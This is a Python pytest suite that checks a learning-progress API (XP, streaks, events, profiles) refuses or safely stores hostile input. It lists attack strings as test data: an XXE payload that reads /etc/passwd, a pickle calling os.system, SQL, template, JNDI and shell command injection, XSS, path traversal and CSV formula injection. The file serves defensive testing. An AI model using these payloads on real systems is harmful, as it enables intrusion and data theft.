"""Hostile input: refused with a reason, or stored as it stands; nobody and nothing else is touched."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from api.access import Role
from tests.api.hostile import HASTY, JSON, post, problem, state
from tests.api.site import API, Site, open_site

EVENT = {"userId": "ann", "action": "lesson_complete"}
DOORS = ["/track", "/events", "/xp", "/streak", "/calculate", "/tokens"]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with open_site(tmp_path_factory.mktemp("site"), settings=HASTY) as opened:
        opened.profile("ann", displayName="Ann")
        opened.track("ann")
        yield opened


@pytest.fixture
def untouched(site: Site) -> Iterator[Site]:
    """The service, of which nothing may have changed afterwards."""
    before = state(site)
    yield site
    assert state(site) == before
    assert site.http.get("/ready").status_code == 200


NO_JSON = {
    "deep lists": b"[" * 60_000 + b"]" * 60_000,
    "deep objects": b'{"a":' * 20_000 + b"1" + b"}" * 20_000,
    "deep within": b'{"userId":"ann","action":"lesson_complete","properties":' + b'{"a":' * 500 + b"1" + b"}" * 501,
    "unclosed": b"[" * 100_000,
    "huge integer": b'{"userId":"ann","action":"lesson_complete","value":' + b"9" * 10_000 + b"}",
    "huge integer within": b'{"userId":"ann","action":"lesson_complete","properties":{"a":' + b"9" * 10_000 + b"}}",
    "NaN": b'{"userId":"ann","action":"lesson_complete","value":NaN}',
    "infinity": b'{"userId":"ann","action":"lesson_complete","value":-Infinity}',
    "bad UTF-8": b'{"userId":"\xff\xfe","action":"lesson_complete"}',
    "overlong UTF-8": b'{"userId":"\xc0\xae\xc0\xae/","action":"lesson_complete"}',
    "surrogate in UTF-8": b'{"userId":"\xed\xa0\x80","action":"lesson_complete"}',
    "lone surrogate": b'{"userId":"\\ud800","action":"lesson_complete"}',
    "surrogates the wrong way round": b'{"userId":"\\udc00\\ud800","action":"lesson_complete"}',
    "bare NUL": b'{"userId":"a\x00nn","action":"lesson_complete"}',
    "UTF-16": json.dumps(EVENT).encode("utf-16"),
    "mark of order": b"\xef\xbb\xbf" + json.dumps(EVENT).encode(),
    "two": json.dumps(EVENT).encode() * 2,
    "cut off": json.dumps(EVENT).encode()[:-1],
    "form": b"userId=ann&action=lesson_complete",
    "XML": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "pickle": b"\x80\x04\x95\x1a\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
}


@pytest.mark.parametrize("name", NO_JSON)
def test_what_is_no_json_is_refused_at_every_door(untouched: Site, name: str) -> None:
    for door in DOORS:
        assert post(untouched, API + door, NO_JSON[name]) == (400, "the body"), door
    assert post(untouched, "/xapi/statements", NO_JSON[name]) == (400, "the body")
    answer = untouched.ask("PUT", "/learners/ann/profile", content=NO_JSON[name], headers=JSON)
    assert problem(400, answer.headers, answer.content)["item"] == "the body"


@pytest.mark.parametrize("deep", [b"[" * 90_000 + b"]" * 90_000, b'{"a":' * 90_000 + b"1" + b"}" * 90_000])
def test_json_as_deep_as_a_batch_is_long_is_refused(untouched: Site, deep: bytes) -> None:
    assert post(untouched, f"{API}/events", deep) == (400, "the body")
    assert post(untouched, "/xapi/statements", deep) == (400, "the body")
    assert post(untouched, f"{API}/track", deep) == (413, "the body")
    for door, content in (("/events", deep), ("/events", b"[" + deep + b"]")):
        told = untouched.ask("POST", door, content=content, headers={"Content-Type": "application/x-ndjson"}).json()
        assert (told["refused"], told["accepted"]) == (1, 0)


FIELDS: dict[str, list[Any]] = {
    "userId": ["", "a\x00b", "a\nb", "\x7f", "x" * 129, 17, None, ["ann"], {"$ne": ""}, True],
    "action": ["", "a\x00b", "x" * 201, 1, None, []],
    "eventId": ["", "\x00", "x" * 201, 17, {"a": 1}],
    "value": ["1", True, [], 1e999, -1e999],
    "occurredAt": [
        *("", "yesterday", "2026-03-02", "2026-03-02T12:00:00", "0000-01-01T00:00:00Z", "9999-12-31T23:59:59Z"),
        *(0, 1772452800, "1772452800", 1e999, 10**30, []),
    ],
    "courseId": ["", "a\x00b", "x" * 201, 5],
    "timezone": ["", "a\x00b", "x" * 201, 5],
    "properties": [1, [], "x"],
    "type": ["identify"],
    "xp": [1_000_000],
    "learnerId": ["bob"],
    "__proto__": [{"admin": True}],
}


@pytest.mark.parametrize("field", FIELDS)
def test_a_field_that_cannot_be_is_refused_by_name(untouched: Site, field: str) -> None:
    for wrong in FIELDS[field]:
        body = json.dumps({**EVENT, field: wrong}).replace("Infinity", "1e999").encode()
        for door in ("/track", "/xp"):
            assert post(untouched, API + door, body) == (422, f"body.{field}"), wrong
        for content, kind in ((b"[" + body + b"]", "application/json"), (body, "application/x-ndjson")):
            told = untouched.ask("POST", "/events", content=content, headers={"Content-Type": kind}).json()
            assert (told["refused"], told["accepted"]) == (1, 0), wrong
            assert told["results"][0]["item"] == field


MEANINGLESS = {
    "action": ["'; DROP TABLE journal; --", "lesson_complete\u0000", "LESSON_COMPLETE", "{{7*7}}", "streak_milestone"],
    "timezone": ["../../../../etc/passwd", "/etc/localtime", "Mars/Olympus", "${jndi:ldap://x/a}", "europe/berlin"],
    "value": [-0.5, 1e10, 1e308],
    "occurredAt": ["2025-01-01T00:00:00Z", "2026-03-02T13:00:00Z", "1970-01-01T00:00:00Z"],
}


@pytest.mark.parametrize("field", MEANINGLESS)
def test_what_could_be_but_is_not_is_refused(untouched: Site, field: str) -> None:
    for wrong in MEANINGLESS[field]:
        body = json.dumps({**EVENT, "action": "quiz_complete", field: wrong}).encode()
        status, item = post(untouched, f"{API}/track", body)
        assert (status, item.removeprefix("body.")) == (422, {"timezone": "time zone"}.get(field, field)), wrong


@pytest.mark.parametrize("name", ["\u202egnp.exe", "A\u2066da\u2069", "Ada\u2028Bob", "A\x85da", "Ada\nBob", "\t"])
def test_a_name_that_would_show_as_another_is_refused(untouched: Site, name: str) -> None:
    answer = untouched.ask("PATCH", "/learners/ann/profile", json={"displayName": name})
    assert problem(422, answer.headers, answer.content)["item"] == "body.displayName"


NAMES = [
    "'; DROP TABLE journal; --",
    '" OR ""="',
    "{{7*7}}",
    "${jndi:ldap://x.example/a}",
    "{0.__class__.__mro__}",
    "%s%n%x",
    "$(touch /tmp/x) `id` | ; &",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "..",
    "a/b/profile",
    "%2e%2e%2f",
    "a?b=c#d",
    "=cmd|' /C calc'!A0",
    "null",
    "__proto__",
    "\u200b\u200d",
    "\U0001d56c\U0001d593\U0001d593",
    "x" * 128,
    "🦉" * 128,
]


@pytest.fixture(scope="module")
def settled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A service in which everybody has such a name."""
    with open_site(tmp_path_factory.mktemp("settled"), settings=HASTY) as opened:
        for name in NAMES:
            opened.track(name, eventId=name, courseId=name)
            answer = raw(opened, "PUT", name, "profile", json={"displayName": name[:80], "learningStyle": name[:40]})
            assert answer.status_code == 204, answer.text
        yield opened


def raw(
    site: Site, method: str, name: str, what: str = "", role: Role = Role.SERVICE, **options: Any
) -> httpx.Response:
    """Ask about a learner by a path that no client has tidied up."""
    path = f"{API}/learners/{quote(name, safe='').replace('.', '%2E')}{what and '/' + what}"
    url = httpx.URL(str(site.http.base_url)).copy_with(raw_path=path.encode())
    return site.http.request(method, url, headers=site.bearer(role), **options)


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_a_strange_name_is_given_back_as_it_stands(settled: Site, name: str) -> None:
    assert settled.track(name, eventId=name)["status"] == "duplicate"
    assert settled.get("/xp", userId=name)["userId"] == name
    assert settled.get("/streak", userId=name)["currentStreak"] == 1
    assert settled.post("/calculate", {"userId": name})["userId"] == name
    profile = raw(settled, "GET", name, "profile").json()
    assert (profile["userId"], profile["displayName"]) == (name, name[:80])
    token = settled.post("/tokens", {"userId": name})["token"]
    mine = settled.http.get(f"{API}/xp", headers={"Authorization": f"Bearer {token}"}).json()
    assert mine["userId"] == name
    lines = [json.loads(line) for line in raw(settled, "GET", name, "export").iter_lines()]
    [event] = [line for line in lines if line["part"] == "event" and line["verdict"] == "full"]
    assert (event["eventId"], event["courseId"]) == (name, name)


def test_strange_names_are_all_there_and_nobody_else(settled: Site) -> None:
    board = settled.get("/leaderboard", limit=100)["entries"]
    assert sorted((line["userId"], line["displayName"]) for line in board) == sorted((n, n[:80]) for n in NAMES)


def test_ids_that_look_the_same_are_not_the_same(settled: Site) -> None:
    composed, decomposed = (unicodedata.normalize(form, "zoë") for form in ("NFC", "NFD"))
    for name, times in ((composed, 1), (decomposed, 2), ("ZOË", 3), ("zoë ", 4)):
        for _ in range(times):
            settled.track(name)
    totals = [settled.get("/xp", userId=name)["totalXp"] for name in (composed, decomposed, "ZOË", "zoë ")]
    assert totals == [50, 100, 150, 200]
    schemas = settled.app.openapi()["components"]["schemas"]
    assert "Unicode's normal form" in schemas["EventBody"]["properties"]["userId"]["description"]


def test_a_strange_name_can_be_erased(settled: Site) -> None:
    for name in NAMES:
        proof = raw(settled, "DELETE", name, role=Role.ADMIN).json()
        assert proof["entriesLeft"] == 0
        assert raw(settled, "GET", name, "profile").status_code == 404
